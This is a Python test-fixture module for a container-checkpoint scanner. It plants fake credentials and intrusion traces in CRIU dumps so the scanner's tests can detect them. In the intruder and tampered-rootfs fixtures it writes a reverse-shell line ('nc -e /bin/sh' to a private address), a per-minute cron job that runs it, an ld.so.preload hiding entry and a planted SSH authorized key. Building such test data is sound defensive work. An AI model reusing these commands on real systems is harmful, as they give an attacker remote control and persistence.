"""Checkpoints with things planted in them, for the scan tests (issue #17).

No real fixture holds a cloud key in an environment, a private key in memory, a setuid file or
an unexpected ``nc``: these machines cannot make such dumps with CRIU to order. So each is
derived from a real fixture with the project's own decoder and image writer, the way
``tests/corpus.py`` derives damaged inputs: unpacked into a directory, edited (pages rewritten
in place, ``spec.dump`` changed, a ``rootfs-diff.tar`` written), and tarred again.
"""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import zstandard

from ckpt_tui.model.memory import layout_runs

from .corpus import load_img, unpack

PAGE = 4096
# made-up values in the issuers' formats (none is a live credential)
AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
PEM = (b"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
       b"VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\n-----END RSA PRIVATE KEY-----")
STRIPE = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"
PEM_ADDRESS = 0x3E7B1800  # in the heap of tcp-established's pid 1 (its first dumped heap page)


def _runs(root: Path, pid: int):
    pm = load_img(root, f"pagemap-{pid}.img")
    runs, _ = layout_runs([(e.message.vaddr, e.message.nr_pages, e.message.flags) for e in pm.entries[1:]])
    return root / "checkpoint" / f"pages-{pm.entries[0].message.pages_id}.img", runs


def write_memory(root: Path, pid: int, addr: int, data: bytes) -> None:
    """Overwrite dumped memory of ``pid`` at ``addr`` (every byte of it dumped; the range may
    cross pagemap runs)."""
    path, runs = _runs(root, pid)
    raw = bytearray(path.read_bytes())
    done = 0
    while done < len(data):
        at = addr + done
        run = next(r for r in runs if r.offset is not None and r.vaddr <= at < r.end)
        n = min(len(data) - done, run.end - at)
        off = run.offset + (at - run.vaddr)
        raw[off:off + n] = data[done:done + n]
        done += n
    path.write_bytes(bytes(raw))


def read_memory(root: Path, pid: int, addr: int, n: int) -> bytes:
    path, runs = _runs(root, pid)
    run = next(r for r in runs if r.offset is not None and r.vaddr <= addr < r.end)
    return path.read_bytes()[run.offset + addr - run.vaddr:][:n]


def replace_env(root: Path, pid: int, old: str, new: str) -> None:
    """Put the environment entry ``new`` (padded with a PLANTED=x... entry) where ``old`` is,
    same length, in the process's environ pages."""
    mm = load_img(root, f"mm-{pid}.img").entries[0].message
    env = read_memory(root, pid, mm.mm_env_start, mm.mm_env_end - mm.mm_env_start)
    at = env.index(old.encode() + b"\0")
    pad = len(old) - len(new) - 1 - len("PLANTED=")
    assert pad >= 1, "the new entry must be shorter than the old one"
    write_memory(root, pid, mm.mm_env_start + at, new.encode() + b"\0PLANTED=" + b"x" * pad)


def set_command(root: Path, args: list[str]) -> None:
    spec = json.loads((root / "spec.dump").read_text())
    spec["process"]["args"] = args
    (root / "spec.dump").write_text(json.dumps(spec))


def write_rootfs(root: Path, files: list[tuple[str, bytes, int]], keep: bool = True) -> None:
    """``rootfs-diff.tar`` with (path, data, mode) files added (to the fixture's own entries
    when ``keep``); directories are made as needed."""
    out = io.BytesIO()
    old = root / "rootfs-diff.tar"
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        if keep and old.exists():
            with tarfile.open(old) as src:
                for ti in src.getmembers():
                    tar.addfile(ti, src.extractfile(ti) if ti.isfile() else None)
        dirs: set[str] = set()
        for path, data, mode in files:
            parts = path.split("/")[:-1]
            for i in range(1, len(parts) + 1):
                d = "/".join(parts[:i])
                if d not in dirs:
                    dirs.add(d)
                    ti = tarfile.TarInfo(d)
                    ti.type, ti.mode = tarfile.DIRTYPE, 0o755
                    tar.addfile(ti)
            ti = tarfile.TarInfo(path)
            ti.size, ti.mode = len(data), mode
            tar.addfile(ti, io.BytesIO(data))
    old.write_bytes(out.getvalue())


def pack(root: Path, dest: Path) -> Path:
    """The directory as a podman-style zstd archive (members in name order, as podman writes:
    each mm- and pagemap- image before its pages image)."""
    with open(dest, "wb") as fh, zstandard.ZstdCompressor(level=3).stream_writer(fh) as z, \
            tarfile.open(fileobj=z, mode="w|", format=tarfile.PAX_FORMAT) as tar:
        for path in sorted(root.rglob("*")):
            tar.add(path, arcname=str(path.relative_to(root)), recursive=False)
    return dest


# -- the planted checkpoints ------------------------------------------------------------
def intruder(dest: Path) -> Path:
    """From ``tcp-established`` (pid 1 sh, pid 7 sleep, pid 8 ``nc 10.88.0.27 9000`` holding an
    ESTABLISHED TCP connection):

    - pid 1's environment: ``PATH=...`` replaced by ``AWS_ACCESS_KEY_ID=AKIA...`` (same bytes long);
    - pid 1's heap at :data:`PEM_ADDRESS`: a PEM RSA private key;
    - the container's command (``spec.dump``) is ``sleep 100000``, so nothing configured starts
      the ``nc`` child: it looks started by hand, with its socket open;
    - ``rootfs-diff.tar`` (the fixture has none): a setuid ``/usr/local/bin/helper`` and an
      executable ``/tmp/.x/payload`` in a hidden directory."""
    root = unpack("tcp-established.tar.zst", dest)
    replace_env(root, 1, "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                f"AWS_ACCESS_KEY_ID={AWS_KEY}")
    write_memory(root, 1, PEM_ADDRESS, PEM)
    set_command(root, ["sleep", "100000"])
    write_rootfs(root, [("usr/local/bin/helper", b"\x7fELF" + b"\0" * 60, 0o4755),
                        ("tmp/.x/payload", b"#!/bin/sh\nnc -e /bin/sh 10.0.0.9 4444\n", 0o755)])
    return root


def tampered_rootfs(dest: Path) -> Path:
    """From ``web-httpd`` (its root FS diff: ``etc/motd``, ``var/www/docs/new.html``,
    ``root/blob.bin``): an authorized_keys, a crontab, ``/etc/ld.so.preload``, an SSH private
    key, an ``.env`` with a Stripe key, an AWS credentials file, 200 KiB of logs and a pip cache."""
    root = unpack("web-httpd.tar.zst", dest)
    write_rootfs(root, [
        ("root/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO planted@example\n", 0o600),
        ("root/.ssh/id_rsa", PEM + b"\n", 0o600),
        ("etc/cron.d/update", b"* * * * * root /tmp/.x/payload\n", 0o644),
        ("etc/ld.so.preload", b"/usr/lib/libhide.so\n", 0o644),
        ("srv/app/.env", f"STRIPE_KEY={STRIPE}\nDEBUG=1\n".encode(), 0o644),
        ("root/.aws/credentials", b"[default]\nregion = eu-west-1\n", 0o600),
        ("var/log/app/app.log", b"2026-11-23 GET /\n" * 12800, 0o644),
        ("root/.cache/pip/wheel.bin", b"\x01" * 70000, 0o644),
    ])
    return root


def deleted_while_open(dest: Path) -> Path:
    """From ``tcp-server`` (pid 7 ``nc -l -p 9000 > /tmp/got`` holds fd 1 on /tmp/got): a
    ``remap-fpath.img`` saying that file (files.img id 11) was deleted while open and is
    restored from a ghost file, as CRIU writes for an unlinked open file (the ghost image's
    contents are not needed by the scan and not written)."""
    from ckpt_tui.criu.pb.files_pb2 import remap_file_path_entry
    from ckpt_tui.criu.writer import encode_image

    root = unpack("tcp-server.tar.zst", dest)
    entry = remap_file_path_entry(orig_id=11, remap_id=0x2A, remap_type=1)  # GHOST
    (root / "checkpoint" / "remap-fpath.img").write_bytes(encode_image("REMAP_FPATH", [entry]))
    return root


def own_binary(dest: Path) -> Path:
    """From ``memhog-16m-threads`` (pid 1 runs ``/bin/memhog``, an image file): the root FS diff
    gets a ``/bin/memhog`` whose bytes at the offsets of its read-only mappings are the pages the
    dump holds of them, so those dumped pages are the file's own bytes."""
    from ckpt_tui.model import load_checkpoint

    root = unpack("memhog-16m-threads.tar.zst", dest)
    with load_checkpoint(root) as ck:
        proc = ck.processes[1]
        reader = ck.memory(1)
        size = max(v.pgoff + v.size for v in proc.vmas if v.path == "/bin/memhog")
        body = bytearray(b"\x90" * size)
        body[:4] = b"\x7fELF"
        for v in proc.vmas:
            if v.path == "/bin/memhog" and v.perms[1] != "w":
                for addr in range(v.start, v.end, PAGE):
                    if reader.page_state(addr) == "present":
                        body[v.pgoff + addr - v.start:v.pgoff + addr - v.start + PAGE] = reader.read(addr, PAGE)
    write_rootfs(root, [("bin/memhog", bytes(body), 0o755)])
    return root
